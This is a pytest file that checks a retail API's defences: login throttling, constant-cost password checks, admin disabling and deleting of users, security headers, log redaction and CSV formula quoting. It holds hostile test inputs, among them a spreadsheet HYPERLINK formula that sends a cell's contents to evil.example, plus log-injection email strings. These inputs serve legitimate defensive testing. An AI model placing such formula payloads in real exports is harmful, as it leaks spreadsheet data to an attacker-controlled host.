"""Accounts, sign-in and answers under attack (issue 13, rows 6-10 and 21).

- row 6: sign-in limits per client address and per account (capped backoff, 429 + Retry-After)
- row 7: an unknown email costs the same password check as a known one
- row 8: `admin disable-user / enable-user / delete-user / revoke-sessions`
- row 9: CSV exports quote formula-like cells
- row 10: security headers, Secure cookie and HSTS over HTTPS, no CDN-loading /docs
- row 21: nothing of a sign-in email reaches the logs
"""

from __future__ import annotations

import asyncio
import csv
import io
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, cast

import httpx
import pytest
from sqlalchemy import select
from starlette.applications import Starlette
from starlette.responses import JSONResponse
from starlette.routing import Route
from structlog.testing import capture_logs

from cloud_api import admin
from cloud_api.api.headers import SecurityHeaders
from cloud_api.cli import main as cli_main
from cloud_api.db.models import User, UserSession
from cloud_api.db.session import make_engine, session_factory, transaction
from cloud_api.reports.csv_export import to_csv
from cloud_api.security import verify_password
from cloud_api.services import users
from cloud_api.services.context import Services
from cloud_api.services.errors import TooManyRequests
from cloud_api.services.login_limits import LoginLimits
from cloud_api.settings import CloudSettings
from contract import CheckoutRequest, LineItem, Report, ReportFilters
from contract import Receipt as ReceiptIn
from tests.cloud_fixtures import migrated_url  # noqa: F401  (fixture)
from tests.cloud_server import serve

PASSWORD = "correct horse battery"
MANAGER = "anna@example.com"
BOSS = "boss@example.com"


# --- row 6: the limiter's policy, on a clock the test moves ---------------------------------


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def _limits(clock: Clock, **fields: Any) -> LoginLimits:
    settings = CloudSettings(
        **{
            "login_ip_burst": 1000,
            "login_ip_per_minute": 60.0,
            "login_free_failures": 3,
            "login_lockout_base_s": 10.0,
            "login_lockout_max_s": 60.0,
            **fields,
        }
    )
    return LoginLimits(settings, clock=clock)


def test_account_backoff_doubles_is_capped_and_a_success_resets_it() -> None:
    clock = Clock()
    limits = _limits(clock)
    for _ in range(2):
        limits.admit("10.0.0.1", MANAGER)
        limits.failed(MANAGER)
    limits.admit("10.0.0.1", MANAGER)
    limits.failed(MANAGER)  # the third failure: 10 s
    with pytest.raises(TooManyRequests) as refused:
        limits.admit("10.0.0.9", " Anna@Example.com ")  # any address, any spelling
    assert refused.value.status == 429 and refused.value.retry_after_s == 10
    waits = []
    for _ in range(6):  # each failure after the delay doubles it: 20, 40, then the cap
        clock.now += 61
        limits.admit("10.0.0.1", MANAGER)
        limits.failed(MANAGER)
        with pytest.raises(TooManyRequests) as refused:
            limits.admit("10.0.0.1", MANAGER)
        waits.append(refused.value.retry_after_s)
    assert waits == [20, 40, 60, 60, 60, 60]  # never longer than login_lockout_max_s
    clock.now += 60  # the cap passes: the real user gets in, and starts afresh
    limits.admit("10.0.0.2", MANAGER)
    limits.succeeded(MANAGER)
    for _ in range(2):
        limits.admit("10.0.0.2", MANAGER)
        limits.failed(MANAGER)
    limits.admit("10.0.0.2", MANAGER)  # two failures after a success: not delayed
    limits.admit("10.0.0.2", "someone@else.example")  # other accounts never were


def test_an_address_has_a_token_bucket() -> None:
    clock = Clock()
    limits = _limits(clock, login_ip_burst=5, login_ip_per_minute=6.0)
    for index in range(5):
        limits.admit("10.0.0.1", f"user{index}@example.com")
    with pytest.raises(TooManyRequests) as refused:
        limits.admit("10.0.0.1", "user9@example.com")
    assert refused.value.retry_after_s == 10  # 6 a minute: one token every 10 s
    limits.admit("10.0.0.2", "user9@example.com")  # another address is not affected
    clock.now += 10
    limits.admit("10.0.0.1", "user9@example.com")


def test_remembered_addresses_and_accounts_are_bounded() -> None:
    settings = CloudSettings(login_free_failures=1, login_lockout_base_s=5.0)
    clock = Clock()
    limits = LoginLimits(settings, clock=clock, max_tracked=10)
    for index in range(100):
        limits.admit(f"10.0.{index}.1", f"user{index}@example.com")
        limits.failed(f"user{index}@example.com")
    assert len(limits._addresses) <= 10 and len(limits._accounts) <= 10
    with pytest.raises(TooManyRequests):  # the newest are kept
        limits.admit("10.0.0.1", "user99@example.com")


# --- rows 7 and 21: the password check and the log, in process -------------------------


@pytest.fixture
def accounts(migrated_url: str) -> Iterator[Services]:  # noqa: F811
    engine = make_engine(migrated_url)
    sessions = session_factory(engine)
    with transaction(sessions) as session:
        admin.create_region(session, "North")
        admin.create_store(session, "North", "N001", "North One")
        admin.create_user(session, MANAGER, "Anna", "store_manager", PASSWORD, "N001")
    settings = CloudSettings(database_url=migrated_url, auto_migrate=False)
    yield Services(
        settings=settings, sessions=sessions, recognizer=cast(Any, None), demographics=None
    )
    engine.dispose()


def test_an_unknown_email_costs_the_same_password_check(
    accounts: Services, monkeypatch: pytest.MonkeyPatch
) -> None:
    checked: list[str] = []

    def spy(password: str, encoded: str) -> bool:
        checked.append(encoded)
        return verify_password(password, encoded)

    monkeypatch.setattr(users, "verify_password", spy)
    with pytest.raises(users.AuthError, match="wrong email or password") as unknown:
        users.login(accounts, "nobody@example.com", PASSWORD)
    with pytest.raises(users.AuthError) as known:
        users.login(accounts, MANAGER, "not the password")
    assert str(unknown.value) == str(known.value)
    with accounts.sessions() as session:
        stored = session.scalars(select(User.password_hash)).one()
    assert checked == [users.DUMMY_PASSWORD_HASH, stored]
    # the dummy has the same work factor as a stored password
    assert users.DUMMY_PASSWORD_HASH.split("$")[:4] == stored.split("$")[:4]


def test_a_sign_in_email_never_reaches_the_log(accounts: Services) -> None:
    limits = LoginLimits(accounts.settings)
    hostile = "evil\x1b[2J\r\nforged=1\x00@exam\tple.com"
    with capture_logs() as events:
        for password in ("wrong", PASSWORD):
            with pytest.raises(users.AuthError):
                users.login(accounts, hostile, password, limits=limits, address="10.0.0.1")
        users.login(accounts, MANAGER.upper(), PASSWORD, limits=limits, address="10.0.0.1")
    assert [e["event"] for e in events] == ["login_refused", "login_refused", "login"]
    logged = repr(events)
    for fragment in ("evil", "forged", "exam", "anna", "example.com"):
        assert fragment not in logged.lower()
    assert not any("email" in key for event in events for key in event)


# --- over HTTP: limits, headers, users and CSV ------------------------------------------


@dataclass
class Chain:
    url: str
    database_url: str
    till: str
    settings: CloudSettings


@pytest.fixture
def chain(migrated_url: str, tmp_path: Path) -> Iterator[Chain]:  # noqa: F811
    engine = make_engine(migrated_url)
    with transaction(session_factory(engine)) as session:
        admin.create_region(session, "North")
        admin.create_store(session, "North", "N001", "North One")
        _, till = admin.create_device(session, "N001", "till", "till 1")
        admin.create_user(session, MANAGER, "Anna", "store_manager", PASSWORD, "N001")
        admin.create_user(session, BOSS, "Boss", "head_office", PASSWORD)
    engine.dispose()
    settings = CloudSettings(
        database_url=migrated_url,
        index_dir=tmp_path / "index",
        auto_migrate=False,
        estimate_demographics=False,
        login_ip_burst=40,
        login_ip_per_minute=0.6,  # a token every 100 s: none come back during a test
        login_free_failures=5,
        login_lockout_base_s=3.0,
        login_lockout_max_s=3.0,
    )
    with serve(settings) as server:
        yield Chain(server.url, migrated_url, till, settings)


def _from(address: str) -> dict[str, str]:
    """The client address a request claims through a proxy uvicorn trusts (127.0.0.1)."""
    return {"X-Forwarded-For": address}


def _login(
    client: httpx.Client, email: str, password: str, address: str = "10.1.0.1"
) -> httpx.Response:
    return client.post(
        "/v1/auth/login", json={"email": email, "password": password}, headers=_from(address)
    )


def _checkout(
    chain: Chain, *, sku: str = "SKU-1", category: str = "coffee", brand: str = "Roastery"
) -> httpx.Response:
    now = datetime.now(UTC)
    body = CheckoutRequest(
        idempotency_key=uuid.uuid4().hex,
        captured_at=now,
        receipt=ReceiptIn(
            number=uuid.uuid4().hex[:10],
            scanned_at=now,
            items=[
                LineItem(
                    sku=sku,
                    name=sku,
                    category=category,
                    brand=brand,
                    quantity=2,
                    unit_price="12.50",
                )
            ],
        ),
    ).model_dump(mode="json")
    return httpx.post(
        chain.url + "/v1/checkouts", json=body, headers={"X-API-Key": chain.till}, timeout=60
    )


def _assert_throttled(answer: httpx.Response) -> None:
    assert answer.status_code == 429, answer.text
    assert int(answer.headers["Retry-After"]) >= 1
    body = answer.json()
    assert body["error"] == "too_many_requests" and "sign-in" in body["detail"]


@pytest.mark.slow
def test_wrong_logins_are_throttled_and_the_real_user_gets_back_in(chain: Chain) -> None:
    with httpx.Client(base_url=chain.url, timeout=60) as client:
        answers = [_login(client, MANAGER, f"guess {n}", "10.1.0.1") for n in range(30)]
        statuses = [a.status_code for a in answers]
        assert statuses[:5] == [401] * 5  # login_free_failures
        assert set(statuses) <= {401, 429} and statuses.count(429) >= 1
        for answer in answers:
            if answer.status_code == 429:
                _assert_throttled(answer)
        assert _checkout(chain).status_code == 200  # tills are not slowed or limited

        # the account's delay is capped (3 s here): the real user, from elsewhere, gets in
        deadline = time.monotonic() + 60
        while (signed := _login(client, MANAGER, PASSWORD, "10.2.0.1")).status_code != 200:
            _assert_throttled(signed)
            assert time.monotonic() < deadline, "the real user never got back in"
            time.sleep(0.25)
        assert signed.json()["user"]["email"] == MANAGER


@pytest.mark.slow
def test_one_address_flooding_does_not_stop_another(chain: Chain) -> None:
    with httpx.Client(base_url=chain.url, timeout=60) as client:
        statuses = [
            _login(client, f"user{n}@example.com", "guess", "10.3.0.1").status_code
            for n in range(50)
        ]
        assert statuses[:40] == [401] * 40  # login_ip_burst, every account a different one
        assert statuses[40:] == [429] * 10
        _assert_throttled(_login(client, BOSS, PASSWORD, "10.3.0.1"))
        assert _checkout(chain).status_code == 200
        assert _login(client, BOSS, PASSWORD, "10.4.0.1").status_code == 200


@pytest.mark.slow
def test_security_headers_and_no_public_docs(chain: Chain) -> None:
    with httpx.Client(base_url=chain.url, timeout=60) as client:
        refused = client.get("/v1/scope")
        assert refused.status_code == 401
        hostile = _login(client, "a\x00b\x1b@example.com", PASSWORD)  # not a 500 on PostgreSQL
        assert hostile.status_code == 401 and hostile.json()["error"] == "unauthorized"
        signed = _login(client, BOSS, PASSWORD)
        assert signed.status_code == 200
        assert "secure" not in signed.headers["set-cookie"].lower()  # plain HTTP here
        json_answer = client.get("/v1/scope")
        csv_answer = client.get("/v1/reports/categories", params={"format": "csv"})
        for answer in (refused, signed, json_answer, csv_answer):
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert answer.headers["cache-control"] == "no-store"
            assert "strict-transport-security" not in answer.headers
        dashboard = client.get("/dashboard/static/app.js")
        if dashboard.status_code == 200:  # the dashboard keeps its own caching
            assert dashboard.headers["cache-control"] != "no-store"
            assert dashboard.headers["x-content-type-options"] == "nosniff"
        for page in ("/docs", "/redoc", "/docs/oauth2-redirect"):
            assert client.get(page).status_code == 404
        schema = client.get("/openapi.json")
        assert schema.status_code == 200 and "/v1/checkouts" in schema.json()["paths"]
        assert schema.headers["x-content-type-options"] == "nosniff"

        # behind a TLS proxy uvicorn trusts (FORWARDED_ALLOW_IPS, 127.0.0.1 by default)
        https = client.post(
            "/v1/auth/login",
            json={"email": BOSS, "password": PASSWORD},
            headers={"X-Forwarded-Proto": "https"},
        )
        assert https.status_code == 200
        assert "secure" in https.headers["set-cookie"].lower()
        assert https.headers["strict-transport-security"].startswith("max-age=")


def test_https_only_sets_hsts_on_every_answer() -> None:
    async def hello(_: object) -> JSONResponse:
        return JSONResponse({"hello": "world"})

    async def get(app: SecurityHeaders) -> httpx.Response:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
            return await client.get("/")

    for https_only, expected in ((True, True), (False, False)):
        app = SecurityHeaders(
            Starlette(routes=[Route("/", hello)]), CloudSettings(https_only=https_only)
        )
        answer = asyncio.run(get(app))
        assert ("strict-transport-security" in answer.headers) is expected
        assert answer.headers["cache-control"] == "no-store"


@pytest.mark.slow
def test_admin_disables_enables_revokes_and_deletes_users(chain: Chain) -> None:
    def admin_cli(action: str) -> int:
        return cli_main(["admin", action, "--email", MANAGER, "--database-url", chain.database_url])

    with httpx.Client(base_url=chain.url, timeout=60) as client:
        token = _login(client, MANAGER, PASSWORD).json()["token"]
        client.cookies.clear()
        bearer = {"Authorization": f"Bearer {token}"}
        assert client.get("/v1/auth/me", headers=bearer).status_code == 200

        assert admin_cli("disable-user") == 0
        assert client.get("/v1/auth/me", headers=bearer).status_code == 401  # at once
        refused = _login(client, MANAGER, PASSWORD)
        assert refused.status_code == 401 and refused.json()["detail"] == "wrong email or password"
        assert admin_cli("disable-user") == 1  # already disabled: said so

        assert admin_cli("enable-user") == 0
        assert client.get("/v1/auth/me", headers=bearer).status_code == 401  # stays ended
        token = _login(client, MANAGER, PASSWORD).json()["token"]
        client.cookies.clear()
        bearer = {"Authorization": f"Bearer {token}"}
        assert client.get("/v1/auth/me", headers=bearer).status_code == 200

        assert admin_cli("revoke-sessions") == 0
        assert client.get("/v1/auth/me", headers=bearer).status_code == 401
        token = _login(client, MANAGER, PASSWORD).json()["token"]
        client.cookies.clear()

        assert admin_cli("delete-user") == 0
        assert client.get("/v1/auth/me", headers={"Authorization": f"Bearer {token}"}).is_error
        assert _login(client, MANAGER, PASSWORD).status_code == 401
        assert admin_cli("delete-user") == 1  # unknown user now
    engine = make_engine(chain.database_url)
    try:
        with session_factory(engine)() as session:
            assert session.scalars(select(User.email)).all() == [BOSS]
            assert session.scalars(select(UserSession.user_id)).all() == []
    finally:
        engine.dispose()


@pytest.mark.slow
def test_admin_cli_names_an_unknown_user(chain: Chain, capsys: pytest.CaptureFixture[str]) -> None:
    url = chain.database_url
    for action in ("disable-user", "enable-user", "delete-user", "revoke-sessions"):
        assert cli_main(["admin", action, "--email", "ghost@example.com", "--database-url", url])
        assert "unknown user 'ghost@example.com'" in capsys.readouterr().err


# --- row 9: CSV -----------------------------------------------------------------------


FORMULAS = ["=1+2", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"]


def test_csv_quotes_formula_like_text_but_not_numbers() -> None:
    report = Report(
        report="x",
        title="x",
        filters=ReportFilters(date_from=datetime.now(UTC).date(), date_to=datetime.now(UTC).date()),
        columns=["=name", "amount"],
        rows=[[text, -5.5] for text in FORMULAS] + [["plain", None]],
        summary={},
        generated_ms=0.0,
    )
    rows = list(csv.reader(io.StringIO(to_csv(report))))
    assert rows[0] == ["'=name", "amount"]
    assert [row[0] for row in rows[1:-1]] == ["'" + text for text in FORMULAS]
    assert {row[1] for row in rows[1:-1]} == {"-5.5"}  # a negative number stays a number
    assert rows[-1] == ["plain", ""]


@pytest.mark.slow
def test_csv_exports_never_start_a_cell_with_a_formula(chain: Chain) -> None:
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    answer = _checkout(chain, sku="=SKU-EVIL", category=evil, brand="@brand")
    assert answer.status_code == 200, answer.text
    with httpx.Client(base_url=chain.url, timeout=60) as client:
        assert _login(client, BOSS, PASSWORD).status_code == 200
        names = [info["name"] for info in client.get("/v1/reports").json()]
        seen: set[str] = set()
        for name in names:
            params = {"format": "csv", "sku": "=SKU-EVIL"}
            exported = client.get(f"/v1/reports/{name}", params=params)
            assert exported.status_code == 200, (name, exported.text)
            for row in csv.reader(io.StringIO(exported.text)):
                for cell in row:
                    seen.add(cell)
                    if cell[:1] == "-":
                        float(cell)  # only numbers may start with a minus
                    else:
                        assert cell[:1] not in ("=", "+", "@", "\t", "\r"), (name, cell)
        assert "'" + evil in seen and "'=SKU-EVIL" in seen and "'@brand" in seen
